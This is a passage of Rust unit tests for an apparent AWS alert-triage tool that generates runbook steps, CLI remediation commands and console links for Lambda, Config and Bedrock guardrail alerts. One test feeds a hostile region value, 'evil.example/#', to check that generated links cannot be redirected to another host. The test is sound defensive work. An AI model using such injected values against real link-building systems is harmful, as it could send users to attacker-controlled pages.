    fn team_runbook_comes_first() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[]);
        let steps = runbook(
            Kind::ErrorSpike,
            &alert,
            &Correlation::default(),
            Some("https://wiki.example.com/runbooks/"),
        );
        assert_eq!(
            steps.first().and_then(|s| s.link.clone()).as_deref(),
            Some("https://wiki.example.com/runbooks/error_spike")
        );
        let templated = runbook(
            Kind::ErrorSpike,
            &alert,
            &Correlation::default(),
            Some("https://w/{kind}.md"),
        );
        assert_eq!(
            templated.first().and_then(|s| s.link.clone()).as_deref(),
            Some("https://w/error_spike.md")
        );
    }

    #[test]
    fn every_kind_has_steps_and_every_placeholder_is_known() {
        for table in [
            THROTTLE,
            INJECTION,
            ACCESS_DENIED,
            ERROR_SPIKE,
            LATENCY,
            LOGGING_FAILURE,
            AUDIT_TAMPERING,
            GUARDRAIL_CHANGE,
            PERMISSION_CHANGE,
            MODEL_ACCESS_CHANGE,
            PUBLIC_EXPOSURE,
            CONFIG_DRIFT,
            RESOLVED,
            UNKNOWN,
        ] {
            for playbook in table {
                for step in playbook.steps {
                    for template in step.command.iter().chain(step.link.iter()) {
                        let mut unknown = Vec::new();
                        let _ = expand(template, |name| {
                            if !PLACEHOLDERS.iter().any(|(n, _)| *n == name) {
                                unknown.push(name.to_owned());
                            }
                            Some(String::new())
                        });
                        assert!(unknown.is_empty(), "{template}: {unknown:?}");
                    }
                }
            }
        }
        let alert = alarm_alert("AWS/Lambda", "Errors", &[]);
        for kind in Kind::ALL {
            assert!(
                !runbook(kind, &alert, &Correlation::default(), None).is_empty(),
                "{kind}"
            );
        }
    }

    #[test]
    fn config_drift_steps_name_rule_and_resource() {
        let alert = Alert {
            id: "c".to_owned(),
            input: InputFamily::Config,
            account: Some("123456789012".to_owned()),
            region: Some("us-east-1".to_owned()),
            time: t0(),
            body: AlertBody::Config(ConfigChange {
                change: ConfigChangeKind::ComplianceChange,
                rule_name: Some("restricted-ssh".to_owned()),
                resource_type: Some("AWS::EC2::SecurityGroup".to_owned()),
                resource_id: Some("sg-0abc".to_owned()),
                resource_name: None,
                compliance: Some("NON_COMPLIANT".to_owned()),
                previous_compliance: Some("COMPLIANT".to_owned()),
                change_type: None,
                changed_properties: Vec::new(),
            }),
        };
        let cmds = commands(&runbook(
            Kind::ConfigDrift,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.iter().any(|c| {
            c.contains("--config-rule-name restricted-ssh --compliance-types NON_COMPLIANT")
        }));
        assert!(
            cmds.iter().any(
                |c| c.contains("--resource-type AWS::EC2::SecurityGroup --resource-id sg-0abc")
            )
        );
        assert!(
            cmds.iter()
                .any(|c| c.starts_with("aws configservice start-remediation-execution"))
        );
        let mut compliant = alert.clone();
        if let AlertBody::Config(c) = &mut compliant.body {
            c.compliance = Some("COMPLIANT".to_owned());
        }
        let after = commands(&runbook(
            Kind::ConfigDrift,
            &compliant,
            &Correlation::default(),
            None,
        ));
        assert!(
            !after
                .iter()
                .any(|c| c.contains("remediation") || c.contains("NON_COMPLIANT")),
            "{after:#?}"
        );
        let links = links(&alert, &Correlation::default());
        assert!(links.iter().any(|l| l.url == "https://us-east-1.console.aws.amazon.com/config/home?region=us-east-1#/rules/details?configRuleName=restricted-ssh"));
    }

    #[test]
    fn links_cover_alarm_cause_role_and_function() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", "tool-fn")]);
        let corr = Correlation {
            causes: vec![detach_cause()],
            resource_roles: ["arn:aws:iam::123456789012:role/tool-role".to_owned()]
                .into_iter()
                .collect(),
            ..Correlation::default()
        };
        let urls: Vec<String> = links(&alert, &corr).into_iter().map(|l| l.url).collect();
        assert_eq!(
            urls,
            vec![
                "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#alarmsV2:alarm/tool%20errors%20%2F%20prod".to_owned(),
                "https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff".to_owned(),
                "https://console.aws.amazon.com/iam/home#/roles/details/tool-role".to_owned(),
                "https://us-east-1.console.aws.amazon.com/lambda/home?region=us-east-1#/functions/tool-fn".to_owned(),
            ]
        );
    }

    #[test]
    fn links_for_a_guardrail_call_and_a_bad_region() {
        let alert = api_alert(
            "bedrock.amazonaws.com",
            "UpdateGuardrail",
            &[
                ("guardrailIdentifier", "cmy5azq5koeo"),
                ("name", "HIDDEN_DUE_TO_SECURITY_REASONS"),
            ],
        );
        let urls: Vec<String> = links(&alert, &Correlation::default())
            .into_iter()
            .map(|l| l.url)
            .collect();
        assert!(urls.contains(&"https://eu-west-1.console.aws.amazon.com/bedrock/home?region=eu-west-1#/guardrails".to_owned()), "{urls:#?}");
        assert!(
            urls.iter()
                .any(|u| u.ends_with("#/events/3f1c0a2e-1111-2222-3333-444455556666"))
        );

        let mut evil = alert.clone();
        evil.region = Some("evil.example/#".to_owned());
        if let AlertBody::ApiCall(c) = &mut evil.body {
            c.region = None;
        }
        let urls: Vec<String> = links(&evil, &Correlation::default())
            .into_iter()
            .map(|l| l.url)
            .collect();
        assert!(urls.iter().all(|u| !u.contains("evil")), "{urls:#?}");
    }
}
